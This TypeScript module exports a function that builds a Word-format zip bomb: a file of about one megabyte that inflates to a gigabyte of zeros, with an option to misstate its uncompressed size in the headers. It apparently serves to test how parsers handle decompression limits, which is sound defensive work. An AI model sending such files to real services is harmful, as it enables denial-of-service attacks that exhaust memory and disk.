import { constants, crc32, deflateRawSync } from 'node:zlib';

const MEGABYTE = 1 << 20;
const MEGABYTES = 1024;
const NAME = Buffer.from('word/document.xml');

/**
 * A Word file of about one megabyte whose text is a gigabyte of noughts, without having made them: one deflated megabyte that ends on a
 * byte, as often as it takes. `claims`: how long it says that its text is; left out, the truth.
 */
export function zipBomb(claims = MEGABYTE * MEGABYTES): Uint8Array {
  const noughts = Buffer.alloc(MEGABYTE);
  const one = deflateRawSync(noughts, { finishFlush: constants.Z_SYNC_FLUSH });
  let sum = 0;
  for (let n = 0; n < MEGABYTES; n++) sum = crc32(noughts, sum);
  const deflated = Buffer.concat([...Array.from({ length: MEGABYTES }, () => one), Buffer.from([3, 0])]);
  const head = Buffer.alloc(26);
  head.writeUInt16LE(20, 0);
  head.writeUInt16LE(8, 4);
  head.writeUInt32LE(sum, 10);
  head.writeUInt32LE(deflated.length, 14);
  head.writeUInt32LE(claims, 18);
  head.writeUInt16LE(NAME.length, 22);
  const local = Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), head, NAME, deflated]);
  const directory = Buffer.concat([Buffer.from('PK\u0001\u0002\u0014\u0000', 'latin1'), head, Buffer.alloc(14), NAME]);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(1, 4);
  end.writeUInt16LE(1, 6);
  end.writeUInt32LE(directory.length, 8);
  end.writeUInt32LE(local.length, 12);
  return Buffer.concat([local, directory, Buffer.from('PK\u0005\u0006', 'latin1'), end]);
}
